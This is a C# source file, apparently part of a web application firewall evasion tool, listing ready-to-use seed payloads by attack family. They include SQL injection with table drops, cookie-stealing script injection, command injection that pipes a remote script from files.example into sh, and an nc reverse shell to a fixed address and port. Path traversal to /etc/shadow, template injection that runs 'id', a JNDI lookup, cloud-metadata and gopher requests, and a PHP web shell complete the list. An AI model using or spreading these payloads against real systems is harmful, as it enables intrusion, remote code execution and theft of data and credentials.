namespace WafOperator.Evasion.Payloads;

/// <summary>Attacks that an operator may be for.</summary>
internal enum Family
{
    Sql,
    Script,
    Command,
    Traversal,
    Template,
    Lookup,
    Request,
    Program,
}

/// <summary>A payload that works as it stands.</summary>
internal sealed record Seed(Family Family, string Text);

/// <summary>Attacks as they stand in any tutorial: what an attacker starts from.</summary>
internal static class Seeds
{
    public static IReadOnlyList<Seed> All { get; } =
    [
        new(Family.Sql, "' or 1=1-- -"),
        new(Family.Sql, "x' union select login, secret from accounts-- -"),
        new(Family.Sql, "12 and (select count(*) from accounts)>3"),
        new(Family.Sql, "7; drop table invoices-- -"),
        new(Family.Sql, "(case when 1=1 then price else name end)"),
        new(Family.Sql, "9' and sleep(6)-- -"),
        new(Family.Script, "<script>alert(document.cookie)</script>"),
        new(Family.Script, "<img src=x onerror=alert(1)>"),
        new(Family.Script, "\" onmouseover=\"alert(1)"),
        new(Family.Script, "javascript:alert(document.domain)"),
        new(Family.Script, "<svg onload=alert(1)>"),
        new(Family.Script, "';alert(document.cookie);//"),
        new(Family.Command, "; cat /etc/passwd"),
        new(Family.Command, "| id"),
        new(Family.Command, "$(curl http://files.example/a.sh | sh)"),
        new(Family.Command, "&& wget http://files.example/x -O /tmp/x"),
        new(Family.Command, "`whoami`"),
        new(Family.Command, "127.0.0.1; nc 10.9.8.7 4444 -e /bin/sh"),
        new(Family.Traversal, "../../../../../etc/passwd"),
        new(Family.Traversal, "..\\..\\..\\windows\\win.ini"),
        new(Family.Traversal, "/etc/shadow"),
        new(Family.Traversal, "static/..;/..;/WEB-INF/web.xml"),
        new(Family.Template, "{{7*7}}"),
        new(Family.Template, "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
        new(Family.Template, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        new(Family.Template, "<%= system('id') %>"),
        new(Family.Lookup, "${jndi:ldap://files.example/a}"),
        new(Family.Request, "http://169.254.169.254/latest/meta-data/"),
        new(Family.Request, "gopher://127.0.0.1:6379/_flushall"),
        new(Family.Request, "file:///etc/passwd"),
        new(Family.Program, "<?php system($_GET['c']); ?>"),
        new(Family.Program, "O:8:\"Pharmacy\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ];
}
